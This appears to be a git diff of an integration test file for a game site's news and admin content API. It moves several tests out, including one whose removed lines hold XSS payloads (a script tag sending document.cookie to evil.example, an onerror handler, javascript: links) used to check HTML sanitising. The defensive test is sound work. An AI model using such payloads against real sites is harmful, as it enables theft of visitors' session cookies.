@@ -1,7 +1,11 @@
 import { TestSystem } from '@henesys/testing';
 import { Client } from 'pg';
 
-/** News, notices and their admin editing, through the gateway with the real content service. */
+/**
+ * News, notices and their admin editing through the gateway with the real content service: each route's
+ * answer, the admins-only rule, and the gateway's cache of /api/news. What an edit does to the news
+ * (drafts, sanitised HTML, slugs, notices, the trail's lines) is in news-editing.int-spec.ts.
+ */
 describe('content: news, notices, admin editing', () => {
   let system: TestSystem;
   let db: Client;
@@ -68,49 +72,6 @@ describe('content: news, notices, admin editing', () => {
     });
   });
 
-  it('shows a draft only once published, and hides it again when archived', async () => {
-    const created = await call('POST', '/api/admin/content/articles', admin, {
-      category: 'news',
-      title: 'Secret Plans',
-      content: 'Soon.',
-    });
-    expect(created).toMatchObject({ status: 201, body: { slug: 'secret-plans', status: 'inactive' } });
-    expect(allLinks(await news())).not.toContain('/news/secret-plans');
-    expect(
-      (await call('PATCH', `/api/admin/content/articles/${created.body.id}/status`, admin, { status: 'active' }))
-        .status,
-    ).toBe(200);
-    expect(allLinks(await news())).toContain('/news/secret-plans');
-    expect(
-      (await call('PATCH', `/api/admin/content/articles/${created.body.id}/status`, admin, { status: 'archived' }))
-        .status,
-    ).toBe(200);
-    expect(allLinks(await news())).not.toContain('/news/secret-plans');
-  });
-
-  it('sends players sanitised HTML: a hostile article carries no script, handler or javascript: URL', async () => {
-    const hostile = [
-      '# Free NX <script>fetch("https://evil.example/?c="+document.cookie)</script>',
-      '<img src=x onerror="alert(1)">',
-      '[claim here](javascript:alert(document.cookie))',
-      '<a href="javascript:alert(1)">raw link</a>',
-      '<iframe src="https://evil.example"></iframe>',
-    ].join('\n\n');
-    const created = await call('POST', '/api/admin/content/articles', admin, {
-      category: 'update',
-      title: 'Hostile',
-      content: hostile,
-      status: 'active',
-    });
-    const item = (await news()).updates.find((update: { id: number }) => update.id === created.body.id);
-    expect(item.content).not.toMatch(/<(script|iframe)\b/i);
-    expect(item.content).not.toMatch(/<[^>]+\son\w+\s*=/i);
-    expect(item.content).not.toMatch(/<[^>]+\s(href|src)\s*=\s*"\s*javascript:/i);
-    expect(item.content).toContain('&lt;script&gt;');
-    const preview = await call('POST', '/api/admin/content/preview', admin, { markdown: hostile });
-    expect(preview.body.html).toBe(item.content);
-  });
-
   it('serves a burst of visitors from one query, ignores the cache buster, and shows an edit at once', async () => {
     const created = await call('POST', '/api/admin/content/articles', admin, {
       category: 'news',
@@ -118,6 +79,7 @@ describe('content: news, notices, admin editing', () => {
       content: 'v1',
       status: 'active',
     });
+    expect(created.status).toBe(201);
     // Hold the articles table so every query for it has to queue, then count the queue.
     const locker = new Client({ connectionString: system.database.url });
     await locker.connect();
@@ -143,76 +105,50 @@ describe('content: news, notices, admin editing', () => {
     expect(new Set(answers.map((answer) => JSON.stringify(answer))).size).toBe(1);
     expect(answers[0].news.map((item: { id: number }) => item.id)).toContain(created.body.id);
 
-    await call('PUT', `/api/admin/content/articles/${created.body.id}`, admin, {
+    const edited = await call('PUT', `/api/admin/content/articles/${created.body.id}`, admin, {
       category: 'news',
       title: 'Burst Test',
       content: 'version **two**',
     });
+    expect(edited.status).toBe(200);
     expect((await news()).news.find((item: { id: number }) => item.id === created.body.id).content).toContain(
       '<strong>two</strong>',
     );
   });
 
-  it('makes unique slugs from titles and refuses a taken explicit slug, bad values and unknown ids', async () => {
-    const first = await call('POST', '/api/admin/content/articles', admin, {
-      category: 'event',
-      title: 'Double Title!',
+  it('answers each admin editing route for an admin, and refuses a bad value or id', async () => {
+    const created = await call('POST', '/api/admin/content/articles', admin, {
+      category: 'news',
+      title: 'Route Tour',
       content: 'a',
     });
-    const second = await call('POST', '/api/admin/content/articles', admin, {
-      category: 'event',
-      title: 'Double Title!',
-      content: 'b',
+    expect(created).toMatchObject({ status: 201, body: { slug: 'route-tour', status: 'inactive' } });
+    const id = created.body.id;
+    expect(await call('PATCH', `/api/admin/content/articles/${id}/status`, admin, { status: 'active' })).toMatchObject({
+      status: 200,
+      body: { status: 'active' },
     });
-    expect([first.body.slug, second.body.slug]).toEqual(['double-title', 'double-title-2']);
-    expect(
-      await call('POST', '/api/admin/content/articles', admin, {
-        category: 'event',
-        title: 'x',
-        content: 'c',
-        slug: 'double-title',
-      }),
-    ).toMatchObject({ status: 409, body: { message: 'An article with this slug already exists' } });
+    expect(allLinks(await news())).toContain('/news/route-tour');
+    expect(await call('POST', '/api/admin/content/preview', admin, { markdown: '**b**' })).toEqual({
+      status: 200,
+      body: { html: expect.stringContaining('<strong>b</strong>') },
+    });
+    expect((await call('DELETE', `/api/admin/content/articles/${id}`, admin)).status).toBe(200);
     expect(
       await call('POST', '/api/admin/content/articles', admin, { category: 'blog', title: 'x', content: 'c' }),
     ).toMatchObject({ status: 400, body: { message: 'Category must be event, update or news' } });
-    expect(
-      await call('POST', '/api/admin/content/articles', admin, {
-        category: 'news',
-        title: 'x',
-        content: 'c',
-        slug: 'Bad Slug',
-      }),
-    ).toMatchObject({ status: 400 });
-    expect(
-      (await call('PUT', '/api/admin/content/articles/999999', admin, { category: 'news', title: 'x', content: 'c' }))
-        .status,
-    ).toBe(404);
     expect((await call('DELETE', '/api/admin/content/articles/not-a-number', admin)).status).toBe(404);
-  });
 
-  it('edits notices: a new critical notice shows, a hidden one does not', async () => {
-    const created = await call('POST', '/api/admin/content/notices', admin, {
+    const notice = await call('POST', '/api/admin/content/notices', admin, {
       title: 'Login issues',
       content: 'We are on it.',
       severity: 'critical',
-      estimatedDuration: '1 hour',
     });
-    expect(created.status).toBe(201);
-    expect((await news()).notices[0]).toMatchObject({
-      id: created.body.id,
-      title: 'Login issues',
-      severity: 'critical',
-      estimated_duration: '1 hour',
-    });
-    await call('PUT', `/api/admin/content/notices/${created.body.id}`, admin, {
-      title: 'Login issues',
-      content: 'Fixed.',
-      severity: 'critical',
-      active: false,
-    });
-    expect((await news()).notices.map((notice: { id: number }) => notice.id)).not.toContain(created.body.id);
-    expect((await call('DELETE', `/api/admin/content/notices/${created.body.id}`, admin)).status).toBe(200);
+    expect(notice.status).toBe(201);
+    expect((await news()).notices[0]).toMatchObject({ id: notice.body.id, title: 'Login issues' });
+    const hidden = { title: 'Login issues', content: 'Fixed.', severity: 'critical', active: false };
+    expect((await call('PUT', `/api/admin/content/notices/${notice.body.id}`, admin, hidden)).status).toBe(200);
+    expect((await call('DELETE', `/api/admin/content/notices/${notice.body.id}`, admin)).status).toBe(200);
   });
 
   it('lets only admins edit: 401 without a token, 403 for a member, nothing changed', async () => {
@@ -239,18 +175,10 @@ describe('content: news, notices, admin editing', () => {
   });
 
   it('records every change (who, when, what) and lists it for admins', async () => {
-    const { body } = await call('GET', '/api/admin/content/audit', admin);
-    expect(body.length).toBeGreaterThanOrEqual(8);
-    expect(body[0]).toEqual({
-      id: expect.any(Number),
-      actor: 'admin',
-      action: expect.any(String),
-      entity: expect.any(String),
-      entityId: expect.anything(),
-      summary: expect.any(String),
-      at: expect.any(String),
-    });
-    expect(body.map((entry: { summary: string }) => entry.summary)).toContain('"Secret Plans": inactive → active');
+    const { status, body } = await call('GET', '/api/admin/content/audit', admin);
+    expect(status).toBe(200);
+    expect(body[0]).toMatchObject({ actor: 'admin', at: expect.any(String) });
+    expect(body.map((entry: { summary: string }) => entry.summary)).toContain('"Route Tour": inactive → active');
   });
 
   it('switches maintenance on and off for the status widget', async () => {
